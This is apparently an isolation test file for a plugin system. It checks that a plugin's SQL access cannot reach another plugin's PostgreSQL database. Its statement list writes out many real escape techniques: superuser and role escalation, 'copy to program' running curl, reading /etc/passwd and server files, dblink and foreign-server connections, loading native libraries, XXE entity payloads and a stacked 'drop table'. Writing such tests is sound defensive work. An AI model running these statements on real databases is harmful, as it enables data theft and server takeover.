import { expect, test } from 'vitest'
import { commands } from 'vitest/browser'
import { statementOutline } from '../../src/kernel/statement-outline'
import { createBench } from './bench'
import type { Step } from './fault'
import { sufferWithinBound } from './gap-bound'
import type { Files } from './plugin-files'

const [plugin, victim] = ['others-database', 'victim']

const victimFiles: Files = {
  'plugin.json': JSON.stringify({
    ...{ name: victim, version: '1.0.0', apiVersion: '^1.0.0' },
    permissions: ['sql'],
    // PostgreSQL is loaded in the first of its calls.
    limits: { executeMs: 120_000 },
  }),
  'index.ts': `export default { execute: async (text, { sql }) => (await sql.query(text)).rows }`,
}

/** Every way that PostgreSQL has out of a database. On `port` a server listens, and must hear nothing. */
function waysOut(victimDatabase: string, port: number): string[] {
  const host = `127.0.0.1:${port}`
  const connection = `host=127.0.0.1 port=${port} dbname=${victimDatabase}`
  return [
    // By another name.
    'select * from treasure',
    `select * from ${victim}.treasure`,
    `select * from ${victim}.public.treasure`,
    `select * from "${victimDatabase}".public.treasure`,
    `\\connect ${victimDatabase}`,
    `create database loot template "${victimDatabase}"`,
    `alter database postgres rename to "${victimDatabase}"`,
    'drop database postgres',
    "update pg_database set datallowconn = true, datname = 'loot'",
    // As somebody else.
    `set role ${victim}`,
    'set role pg_monitor',
    'set role pg_read_all_data',
    `set session authorization ${victim}`,
    'set session authorization pg_monitor',
    'create role boss superuser',
    'alter role postgres superuser',
    'update pg_authid set rolsuper = true',
    'grant pg_read_server_files, pg_execute_server_program to postgres',
    'grant execute on function pg_read_file(text) to postgres',
    'alter function pg_read_file(text) owner to postgres',
    'set allow_system_table_mods = on',
    "update pg_proc set proacl = null where proname = 'pg_read_file'",
    // Through the network.
    'create extension dblink',
    `select dblink_connect('${connection}')`,
    `select * from dblink('${connection}', 'select * from treasure') as t (what text)`,
    'create extension postgres_fdw',
    'create foreign data wrapper elsewhere',
    `create server elsewhere foreign data wrapper postgres_fdw options (host '127.0.0.1', port '${port}')`,
    `create subscription s connection '${connection}' publication p`,
    `create subscription s connection '${connection}' publication p with (connect = false)`,
    "select pg_create_logical_replication_slot('s', 'pgoutput')",
    `alter system set primary_conninfo = '${connection}'`,
    `copy (select 1) to program 'curl http://${host}/copied'`,
    `do $$ begin copy (select 1) to program 'curl http://${host}/copied'; end $$`,
    `do $$ begin execute format('copy (select 1) to program %L', 'curl http://${host}/copied'); end $$`,
    // Through files.
    `copy (select 1) to '/${victimDatabase}'`,
    `copy pg_class from '/${victimDatabase}'`,
    "do $$ begin create table passwd (line text); copy passwd from '/etc/passwd'; end $$",
    "select pg_read_file('base/5/PG_VERSION')",
    "select pg_read_binary_file('global/pg_control')",
    "select pg_stat_file('.')",
    "select pg_ls_dir('..')",
    'select pg_ls_waldir()',
    'select pg_ls_logdir()',
    'select pg_ls_tmpdir()',
    'select pg_current_logfile()',
    'select pg_hba_file_rules()',
    'select pg_show_all_file_settings()',
    'select pg_reload_conf()',
    `create tablespace t location '/${victimDatabase}'`,
    "select lo_import('/etc/passwd')",
    `select lo_export(lo_from_bytea(0, 'loot'), '/${victimDatabase}')`,
    'select lo_get(1)',
    'create extension file_fdw',
    // As code of the server's own.
    "create function f() returns int language c as '/loot', 'f'",
    "create function f(text) returns text language internal as 'pg_read_file'",
    'create extension plpython3u',
    'create language loot handler plpgsql_call_handler',
    "load '/loot'",
    "set session_preload_libraries = 'loot'",
    "set dynamic_library_path = '/'",
    "alter system set archive_command = 'curl'",
    'create event trigger loot on ddl_command_start execute function pg_reload_conf()',
    // More than one at a time.
    'select 1; drop table treasure',
  ]
}

/** What PostgreSQL does, but without going anywhere. */
function waysNowhere(port: number): Record<string, unknown[]> {
  const host = `127.0.0.1:${port}`
  const entity = (address: string) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><x>&e;</x>`
  return {
    [`select xmlparse(document '<!DOCTYPE x SYSTEM "http://${host}/dtd"><x/>') is null as nothing`]: [
      { nothing: false },
    ],
    [`select xpath('/x/text()', '${entity(`http://${host}/entity`)}')::text as found`]: [{ found: '{}' }],
    [`select xpath('/x/text()', '${entity('file:///etc/passwd')}')::text as found`]: [{ found: '{}' }],
    'select datname from pg_database': [{ datname: 'postgres' }],
  }
}

test('50 others-database: whatever PostgreSQL offers, a plugin finds its own database alone', async () => {
  const bench = await createBench()
  const heard = await commands.heardByServer()
  const { hotplug, workspace } = bench.playground

  /** What the victim is told by its own database, where nothing may have changed. */
  async function askVictim(statement: string): Promise<unknown> {
    const report = await hotplug.run(victim, statement)
    return report.ok ? report.output : report.error
  }

  async function tryWaysOut(): Promise<void> {
    bench.write(victim, victimFiles)
    expect(await hotplug.save(victim)).toMatchObject({ ok: true })
    await hotplug.permissions.grant(victim, 'sql')
    expect(await askVictim("create table treasure as select 'gold' as what")).toEqual([])

    const owner = workspace.settingsOf(victim).get('owner')
    if (typeof owner !== 'string') throw new Error('The victim has no owner')
    const ways = waysOut(`hotplug-sql-${owner}`, heard.port)
    const posing = { owner, plugin: victim }
    await hotplug.permissions.grant(plugin, 'sql')
    const before = hotplug.audit().length
    const report = await hotplug.run(plugin, { statements: ways, posing })
    if (!report.ok || !Array.isArray(report.output)) throw new Error(JSON.stringify(report))
    const outcomes: unknown[] = report.output
    const found = outcomes.map((outcome, index) => ({ way: ways[index], outcome }))
    expect(found.filter(({ outcome }) => outcome !== 'CAPABILITY')).toEqual([])
    const recorded = hotplug.audit().slice(before)
    const details = ways.map((way) => statementOutline(way).trim())
    expect(recorded).toMatchObject(details.map((detail) => ({ plugin, capability: 'sql', detail })))

    const nowhere = waysNowhere(heard.port)
    const led = await hotplug.run(plugin, { statements: Object.keys(nowhere), posing })
    expect(led).toMatchObject({ output: Object.values(nowhere) })
    // Its own database has come to no harm, and nor has the other.
    const own = ['create table treasure as select 1 as mine', 'select * from treasure', 'drop table treasure']
    expect(await hotplug.run(plugin, { statements: own, posing })).toMatchObject({ output: [[], [{ mine: 1 }], []] })
    expect(await askVictim('select * from treasure')).toEqual([{ what: 'gold' }])
    expect(await askVictim("select relname from pg_class where relnamespace = 'public'::regnamespace")).toEqual([
      { relname: 'treasure' },
    ])
  }

  async function actBesideVictim(): Promise<void> {
    try {
      await tryWaysOut()
    } finally {
      workspace.removePlugin(victim)
      await hotplug.unload(victim)
    }
  }

  const steps: Step[] = [{ save: { ok: true } }, { act: actBesideVictim }, { unload: { unloaded: true, error: null } }]
  await sufferWithinBound(bench, { number: 50, plugin, says: 'no way leads out', steps })
  expect(await commands.heardByServer()).toEqual(heard)
  await bench.close()
}, 300_000)
